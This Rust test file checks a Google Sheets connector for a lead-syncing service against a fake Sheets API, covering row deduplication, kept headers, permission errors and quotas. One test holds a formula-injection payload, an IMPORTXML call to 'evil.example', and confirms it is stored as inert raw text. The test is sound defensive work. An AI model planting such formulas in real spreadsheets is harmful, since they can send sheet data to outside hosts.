//! Google Sheets: whatever goes wrong on the way, and whatever people do to the sheet, each lead has exactly one row.

use std::time::Duration;

use leadline_fakes::{
    Fake, Fault, Reply,
    google_sheets::{GoogleSheets, Share, Sheet},
    sample_lead,
};
use leadline_tests::{Bringing, Pushing, wait_until};
use leadlined::domain::{
    integration::{EventKind, ProbeKind},
    outcome::{FailureClass, Outcome},
};
use serde_json::{Value, json};

use super::vendors::{Scene, class_and_error};

const ADD: &str = "POST /v4/spreadsheets/1Fake";

fn settings(fake: &Fake<GoogleSheets>) -> (Value, Value) {
    let (id, file) = fake.with(|google| (google.spreadsheet.clone(), google.key_file()));
    (json!({"base_url": fake.url(), "spreadsheet_id": id, "sheet": "Leads"}), file)
}

async fn scene() -> (Fake<GoogleSheets>, Pushing) {
    let fake = Fake::start(GoogleSheets::default()).await.unwrap();
    let (config, file) = settings(&fake);
    let pushing = Pushing::new("google_sheets", config, file, json!({}), Duration::from_millis(400));
    (fake, pushing)
}

fn created(n: usize) -> Bringing {
    Bringing::new(EventKind::Created, &sample_lead(n))
}

async fn push(pushing: &mut Pushing, event: EventKind, lead: &Value) {
    assert_eq!(pushing.attempt(&mut Bringing::new(event, lead)).await, Outcome::Delivered);
}

fn leads(fake: &Fake<GoogleSheets>) -> usize {
    fake.with(|google| google.sheet().leads())
}

/// A lead's id as it stands in the sheet.
fn id(lead: &Value) -> Value {
    json!(lead["lead"]["uuid"].as_str().unwrap().to_uppercase())
}

fn cell(fake: &Fake<GoogleSheets>, row: usize, column: &str) -> Value {
    fake.with(|google| google.sheet().cell(row, column))
}

#[tokio::test]
async fn what_people_do_to_the_sheet_stays_and_the_row_is_found_again() {
    let (fake, mut pushing) = scene().await;
    let (mut first, second) = (sample_lead(1), sample_lead(2));
    first["lead"]["phone"] = json!("+442079460000");
    push(&mut pushing, EventKind::Created, &first).await;
    push(&mut pushing, EventKind::Created, &second).await;
    fake.with(|google| {
        let sheet = google.sheet();
        // A column of their own in front, another order of the rows, a total below.
        for (row, own) in sheet.rows.iter_mut().zip(["Who calls", "Ada", "Bea"]) {
            row.insert(0, json!(own));
        }
        sheet.rows.swap(1, 2);
        sheet.rows.push(Vec::new());
        sheet.rows.push(vec![json!("Total"), json!(2)]);
    });
    first["lead"]["guest_count"] = json!(123);
    first["lead"]["phone"] = json!(null);
    first["lead"]["name"] = first["lead"]["email"].clone();
    let name = cell(&fake, 2, "Name");
    push(&mut pushing, EventKind::Updated, &first).await;
    let third = sample_lead(3);
    push(&mut pushing, EventKind::Created, &third).await;
    assert_eq!((cell(&fake, 2, "Guests"), cell(&fake, 2, "Phone")), (json!(123), json!("+442079460000")));
    assert_eq!((cell(&fake, 2, "Name"), cell(&fake, 2, "Who calls")), (name, json!("Ada")));
    assert_eq!((cell(&fake, 1, "Lead ID"), cell(&fake, 1, "Who calls")), (id(&second), json!("Bea")));
    assert_eq!((cell(&fake, 3, "Who calls"), cell(&fake, 5, "Who calls")), (Value::Null, json!("Total")));
    assert_eq!(cell(&fake, 3, "Lead ID"), id(&third));

    // Rows that somebody removed, and with them the end of the sheet.
    fake.with(|google| {
        google.sheet().rows.truncate(1);
        google.sheet().grid.0 = 1;
    });
    push(&mut pushing, EventKind::Updated, &first).await;
    assert_eq!((leads(&fake), cell(&fake, 1, "Guests")), (1, json!(123)));
    fake.stop().await;
}

#[tokio::test]
async fn a_header_that_is_there_is_kept_and_nothing_is_a_formula() {
    let (fake, mut pushing) = scene().await;
    let header = ["", "Lead ID", "", "Guests", "Notes"];
    fake.with(|google| {
        google.sheets = vec![Sheet { title: "Leads".into(), ..Sheet::with_header("Leads", &header) }]
    });
    let mut lead = sample_lead(1);
    lead["lead"]["profile"] =
        json!({"notes": format!("=IMPORTXML(\"https://evil.example\"){}", "x".repeat(60_000))});
    push(&mut pushing, EventKind::Created, &lead).await;
    let note = pushing.note.clone().unwrap();
    assert!(note.contains("column Email was left out: the header has none of that name"), "{note}");
    fake.with(|google| {
        let row = google.sheet().rows[1].clone();
        assert_eq!((&row[0], &row[1], &row[2]), (&Value::Null, &id(&lead), &Value::Null));
        assert!(
            row[4].as_str().unwrap().starts_with("=IMPORTXML") && row[4].as_str().unwrap().ends_with('…')
        );
        assert_eq!(google.sheet().rows[0][1], "Lead ID");
    });
    let sent = fake.calls();
    assert!(
        sent.iter().any(|call| call.contains(":append?valueInputOption=RAW&insertDataOption=INSERT_ROWS")),
        "{sent:?}"
    );
    fake.stop().await;
}

#[tokio::test]
async fn a_sheet_of_another_life_is_known_again() {
    let (fake, mut pushing) = scene().await;
    let lead = sample_lead(1);
    push(&mut pushing, EventKind::Created, &lead).await;
    // The integration was made anew, and knows nothing of the row.
    let (config, file) = settings(&fake);
    let mut other = Pushing::new("google_sheets", config, file, json!({}), Duration::from_millis(400));
    push(&mut other, EventKind::Created, &lead).await;
    assert_eq!(leads(&fake), 1);
    fake.stop().await;
}

#[tokio::test]
async fn what_is_not_allowed_says_what_to_do() {
    let lead = sample_lead(1);
    type Change = fn(&mut GoogleSheets);
    let cases: [(Change, FailureClass, &str); 6] = [
        (
            |google| google.share = Share::None,
            FailureClass::Credentials,
            "share the spreadsheet with the service account's address, as an editor",
        ),
        (|google| google.share = Share::Viewer, FailureClass::Credentials, "as an editor"),
        (|google| google.is_disabled = true, FailureClass::Credentials, "Enable it, then retry."),
        (|google| google.spreadsheet = "another".into(), FailureClass::Rejected, "correct spreadsheet_id"),
        (
            |google| google.sheet().title = "Sheet1".into(),
            FailureClass::Rejected,
            "there is no such sheet; correct sheet",
        ),
        (|google| google.sheet().is_protected = true, FailureClass::Rejected, "edit a protected cell"),
    ];
    for (change, class, advice) in cases {
        let (fake, mut pushing) = scene().await;
        fake.with(change);
        let (found, error) =
            class_and_error(pushing.attempt(&mut Bringing::new(EventKind::Created, &lead)).await);
        assert!(found == class && error.contains(advice), "{advice}: {found:?} {error}");
        let report = pushing.probe(ProbeKind::Test).await;
        assert!(matches!(report.outcome, Outcome::Failed(_)), "a test says it too: {report:?}");
        fake.stop().await;
    }
    let (fake, mut pushing) = scene().await;
    fake.with(|google| google.client_email = "another@old-barn.iam.gserviceaccount.com".into());
    let (class, error) = class_and_error(pushing.attempt(&mut created(1)).await);
    let expected = "google_sheets login refused: invalid_grant Invalid grant: account not found";
    assert_eq!((class, error.as_str()), (FailureClass::Credentials, expected));
    fake.stop().await;
}

#[tokio::test]
async fn the_quota_is_kept_and_a_token_renewed() {
    let (fake, mut pushing) = scene().await;
    let lead = sample_lead(1);
    fake.with(|google| google.writes.calls = 1);
    let (class, error) =
        class_and_error(pushing.attempt(&mut Bringing::new(EventKind::Created, &lead)).await);
    assert_eq!(class, FailureClass::Throttled, "{error}");
    fake.with(|google| google.writes.calls = 60);
    push(&mut pushing, EventKind::Created, &lead).await;
    fake.with(|google| google.tokens.clear());
    push(&mut pushing, EventKind::Updated, &lead).await;
    assert_eq!((leads(&fake), fake.with(|google| google.logins)), (1, 2));
    fake.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn leads_come_one_after_the_other_and_a_test_changes_nothing() {
    let fake = Fake::start(GoogleSheets::default()).await.unwrap();
    let (config, file) = settings(&fake);
    let scene = Scene::with("google_sheets", config, file).await;
    assert_eq!(scene.operator.test(&scene.integration).await.state().word(), "delivered");
    let is_blank = fake.with(|google| google.sheet().rows.concat().iter().all(Value::is_null));
    assert!(is_blank, "a null is no value");
    let view = scene.operator.integration(&scene.integration).await;
    assert_eq!((view.account.as_str(), view.findings.len()), ("Wedding leads, sheet Leads", 0));
    for n in 0..4 {
        scene.post(n, |_| {}).await;
    }
    scene.wait_for(4, "delivered").await;
    assert_eq!(leads(&fake), 4);
    fake.fault(ADD, Fault::Answer(Reply::status(503)));
    scene.post(4, |_| {}).await;
    wait_until("the fault struck", async || fake.faults_left() == 0).await;
    scene.wait_for(5, "delivered").await;
    assert_eq!(leads(&fake), 5);
    scene.end().await;
    fake.stop().await;
}
